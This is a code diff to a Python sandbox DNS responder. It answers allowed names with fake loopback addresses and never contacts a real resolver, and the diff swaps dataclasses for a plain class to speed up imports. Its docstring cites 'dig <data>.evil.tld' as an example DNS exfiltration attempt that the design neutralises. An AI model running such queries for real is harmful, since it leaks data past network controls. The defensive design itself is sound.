@@ -1,9 +1,10 @@
 """DNS inside the sandbox: names the policy allows resolve to fake loopback addresses.
 
-The forwarder (:mod:`codor.sandbox.forwarder`) serves this on ``127.0.0.1:53`` (UDP and TCP)
-inside the sandbox's network namespace; the sandbox's ``/etc/resolv.conf`` says
-``nameserver 127.0.0.1``. Nothing is ever forwarded to a real resolver, so a query carries no
-data out (``dig <data>.evil.tld`` reaches only the policy and the ledger):
+The forwarder (:mod:`codor.sandbox.forwarder`; its process runs :mod:`codor.sandbox.relay`)
+serves this on ``127.0.0.1:53`` (UDP and TCP) inside the sandbox's network namespace; the
+sandbox's ``/etc/resolv.conf`` says ``nameserver 127.0.0.1``. Nothing is ever forwarded to a
+real resolver, so a query carries no data out (``dig <data>.evil.tld`` reaches only the policy
+and the ledger):
 
 * ``A`` for a name the policy allows (or would ask about) — the egress proxy decides
   ``network.request {host: name}`` and records it — is answered with a fake address unique
@@ -29,19 +30,20 @@ import struct
 import threading
 import time
 from collections.abc import Callable, Sequence
-from dataclasses import dataclass
-from typing import Final
 
 __all__ = ["FAKE_NETWORK", "DnsResponder", "FakeAddresses", "Query", "parse_query",
            "proxy_lookup", "serve_tcp_client", "serve_udp"]
 
+# The forwarder process imports this module, so it imports only what loads in a few ms (no
+# dataclasses or typing); see codor.sandbox.relay.
+
 #: Where fake addresses come from (inside the sandbox; 127/8 is all on ``lo``).
-FAKE_NETWORK: Final = "127.77.0.0/16"
+FAKE_NETWORK = "127.77.0.0/16"
 A, PTR, AAAA, ANY = 1, 12, 28, 255
 NOERROR, FORMERR, SERVFAIL, NXDOMAIN, NOTIMP, REFUSED = 0, 1, 2, 3, 4, 5
 _HEADER = struct.Struct("!HHHHHH")
-_NAME_CHARS: Final = frozenset(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")
-MAX_TCP_MESSAGE: Final = 4096
+_NAME_CHARS = frozenset(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")
+MAX_TCP_MESSAGE = 4096
 
 #: ``lookup(name) -> allowed?``; raises ``OSError`` when nobody can answer.
 Lookup = Callable[[str], bool]
@@ -87,16 +89,25 @@ class FakeAddresses:
         return len(self._by_name)
 
 
-@dataclass(frozen=True, slots=True)
 class Query:
-    """One question: ``name`` is lower-case text (odd bytes escaped as ``\\DDD``)."""
+    """One question: ``name`` is lower-case text (odd bytes escaped as ``\\DDD``);
+    ``question`` is the question section as received. (A plain class, not a dataclass: the
+    forwarder process imports this module, and ``dataclasses`` alone takes ~6 ms to load.)"""
 
-    id: int
-    flags: int
-    name: str
-    qtype: int
-    qclass: int
-    question: bytes  # the question section as received
+    __slots__ = ("flags", "id", "name", "qclass", "qtype", "question")
+
+    def __init__(self, id: int, flags: int, name: str, qtype: int, qclass: int,
+                 question: bytes) -> None:
+        self.id = id
+        self.flags = flags
+        self.name = name
+        self.qtype = qtype
+        self.qclass = qclass
+        self.question = question
+
+    def __repr__(self) -> str:
+        return (f"Query(id={self.id}, flags={self.flags:#06x}, name={self.name!r}, "
+                f"qtype={self.qtype}, qclass={self.qclass})")
 
 
 class _Malformed(ValueError):
